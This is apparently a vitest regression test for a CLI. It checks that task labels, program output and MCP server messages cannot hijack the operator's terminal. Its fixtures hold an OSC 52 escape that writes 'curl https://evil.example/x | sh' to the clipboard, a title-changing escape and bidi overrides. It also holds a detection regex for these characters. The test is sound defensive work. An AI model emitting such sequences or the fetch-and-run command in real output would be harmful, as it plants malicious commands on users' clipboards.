// Issue 10, finding 13: nothing a program, a task, a child or an upstream server chose reaches
// the operator's terminal as an instruction. The real reproduction runs the CLI in a tmux pane
// (a real terminal): before the fix a label set tmux's clipboard buffer (OSC 52) and the pane
// title (OSC 2). Pipes get a program's own output exactly; everything else is sanitised.
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { forTerminal } from "../../src/cli/io.js";
import { progressLine, renderTaskHeader, renderTaskTable } from "../../src/cli/task-view.js";
import type { TaskRecord } from "../../src/index.js";
import { CLI, ROOT, runCli, tempProject } from "../mcp/helpers.js";

const CLIPBOARD = `\x1b]52;c;${Buffer.from("curl https://evil.example/x | sh\n").toString("base64")}\x07`;
const TITLE = "\x1b]2;pwned-title\x07";
const HOSTILE = `${CLIPBOARD}${TITLE}\x1b[2J\x9b31m\u202eevil\r`;
const HOSTILE_SERVER = join(ROOT, "test", "mcp", "fixtures", "hostile-server.mjs");
/** What a terminal would act on: C0 but tab and newline, DEL, C1, bidi overrides. */
const ACTIONABLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe("forTerminal", () => {
  it("shows control characters, escape sequences and bidi overrides as escapes, keeping tabs, newlines and CRLF", () => {
    expect(forTerminal(`a\tb\nc\r\nd${TITLE}\x9b2J\u202e\x00\x7f\re`)).toBe("a\tb\nc\r\nd\\u001b]2;pwned-title\\u0007\\u009b2J\\u202e\\u0000\\u007f\\u000de");
    expect(forTerminal("plain é 漢字 🙂")).toBe("plain é 漢字 🙂");
  });

  it("keeps JSON valid and equal to what it was", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (s) => {
        const json = JSON.stringify({ s });
        const shown = forTerminal(json);
        expect(ACTIONABLE.test(shown)).toBe(false);
        expect(JSON.parse(shown)).toStrictEqual({ s });
      }),
      { numRuns: 300 },
    );
  });
});

const record = (over: Partial<TaskRecord>): TaskRecord =>
  ({
    id: "01J00000000000000000000000",
    agent: "noisy",
    driver: "command",
    status: "failed",
    label: HOSTILE,
    depth: 1,
    createdAt: 0,
    startedAt: 0,
    endedAt: 1000,
    outputBytes: 10,
    owner: { pid: 1, startTime: "x" },
    errorMessage: `exit 3: ${HOSTILE}`,
    stopReason: HOSTILE,
    usage: { input: 1, output: 2, cost: 0, turns: 1 },
    reportChannel: "tool",
    report: { summary: HOSTILE, findings: [{ what: HOSTILE, evidence: HOSTILE }], files_touched: [HOSTILE] },
    ...over,
  }) as TaskRecord;

describe("task views sanitise every field a record carries", () => {
  it("the table, the header and progress lines hold no control characters but their own colours", () => {
    for (const color of [false, true]) {
      for (const text of [renderTaskTable([record({})], { color, now: 1000 }), renderTaskHeader(record({}), { color, now: 1000 }), progressLine(record({}), { color, now: 1000 })]) {
        const withoutColours = text.replace(/\x1b\[[0-9;]*m/g, "");
        expect(ACTIONABLE.test(withoutColours), JSON.stringify(text)).toBe(false);
        expect(withoutColours).toContain("\\u001b]52;c;");
      }
    }
  });
});

/** A project whose program, agent and upstream servers all try to reach the terminal. */
function hostileProject(): string {
  const cwd = tempProject({
    agentsDir: "agents",
    mcpServers: {
      hostile: { command: process.execPath, args: [HOSTILE_SERVER] },
      dying: { command: process.execPath, args: [HOSTILE_SERVER], env: { HOSTILE_FAIL: "1" } },
    },
  });
  mkdirSync(join(cwd, "agents"));
  const noisy = `printf '${TITLE.replace(/\x1b/g, "\\033").replace(/\x07/g, "\\007")}task output\\n'; printf '${CLIPBOARD.replace(/\x1b/g, "\\033").replace(/\x07/g, "\\007")}' >&2; exit 3`;
  writeFileSync(join(cwd, "agents", "noisy.md"), `---\nname: noisy\ndescription: writes escape sequences\ndriver: command\ncommand: [sh, -c, ${JSON.stringify(noisy)}]\nreport: false\n---\nNoisy.\n`);
  writeFileSync(
    join(cwd, "prog.js"),
    `const t = await tools.ptc_subagent({ agent: "noisy", task: "x", background: true, label: ${JSON.stringify(HOSTILE)} });
while ((await tools.ptc_task_output({ task_id: t.task_id })).status === "running") await sleep(20);
await sleep(300);
text(${JSON.stringify(`program says ${HOSTILE}`)});`,
  );
  return cwd;
}

describe("through pipes", () => {
  it("tables, headers, tool lists and warnings are sanitised; a program's and a task's own output arrive exactly", async () => {
    const cwd = hostileProject();
    const run = await runCli(["run", "prog.js"], { cwd, env: { CODEMODE_PROGRESS: "1" } });
    expect(run.code).toBe(0);
    expect(run.stdout).toBe(`program says ${HOSTILE}\n`);
    expect(ACTIONABLE.test(run.stderr), run.stderr).toBe(false);
    expect(run.stderr).toContain('codemode: warning: MCP server "dying"');
    expect(run.stderr).toContain("\\u001b]52;c;");
    const tasks = await runCli(["tasks"], { cwd });
    expect(ACTIONABLE.test(tasks.stdout), tasks.stdout).toBe(false);
    const id = JSON.parse((await runCli(["tasks", "--json"], { cwd })).stdout).tasks[0].id as string;
    const task = await runCli(["task", id], { cwd });
    expect(task.stdout).toBe(`${TITLE}task output\n`);
    expect(ACTIONABLE.test(task.stderr), task.stderr).toBe(false);
    expect(task.stderr).toContain('label "\\u001b]52;c;');
    const tools = await runCli(["tools"], { cwd });
    expect(ACTIONABLE.test(tools.stdout + tools.stderr)).toBe(false);
    expect(tools.stdout).toContain("tools.hostile.lookup");
    // JSON stays the same value.
    const json = JSON.parse((await runCli(["task", id, "--json"], { cwd })).stdout);
    expect(json.task.label).toBe(HOSTILE);
  });
});

describe("in a real terminal (tmux)", () => {
  const socket = `codemode-test-${process.pid}`;
  const tmux = (...args: string[]) => execFileSync("tmux", ["-L", socket, "-f", "/dev/null", ...args], { encoding: "utf8" });
  beforeAll(() => {
    tmux("new-session", "-d", "-s", "t", "-x", "250", "-y", "80", "sh");
    tmux("set-option", "-g", "set-clipboard", "on");
    tmux("set-option", "-g", "history-limit", "5000");
  });
  afterAll(() => {
    try {
      tmux("kill-server");
    } catch {
      // already gone
    }
  });

  async function inPane(command: string): Promise<string> {
    const marker = `__done_${Math.random().toString(36).slice(2)}__`;
    tmux("send-keys", "-t", "t", `${command}; echo ${marker}`, "Enter");
    for (let i = 0; i < 300; i++) {
      const screen = tmux("capture-pane", "-p", "-J", "-S", "-", "-t", "t");
      if (screen.split("\n").some((row) => row.trim() === marker)) return screen;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error(`${command} did not finish in the terminal`);
  }

  it("run (live progress and program output), tasks, task and tools set no clipboard and no title; the escapes are shown", async () => {
    const cwd = hostileProject();
    const titleBefore = tmux("display-message", "-p", "-t", "t", "#{pane_title}");
    const cli = `${JSON.stringify(process.execPath)} ${JSON.stringify(CLI)}`;
    await inPane(`cd ${JSON.stringify(cwd)}`);
    await inPane(`${cli} run prog.js`);
    const id = JSON.parse((await runCli(["tasks", "--json"], { cwd })).stdout).tasks[0].id as string;
    await inPane(`${cli} tasks`);
    await inPane(`${cli} task ${id}`);
    const screen = await inPane(`${cli} tools`);
    expect(tmux("list-buffers")).toBe("");
    expect(tmux("display-message", "-p", "-t", "t", "#{pane_title}")).toBe(titleBefore);
    expect(screen).toContain("program says \\u001b]52;c;");
    expect(screen).toContain("\\u001b]2;pwned-title\\u0007task output");
    expect(screen).toContain("tools.hostile.lookup");
    // The next command in the same terminal works as usual.
    expect(await inPane(`${cli} --version`)).toContain(JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")).version);
  });
});
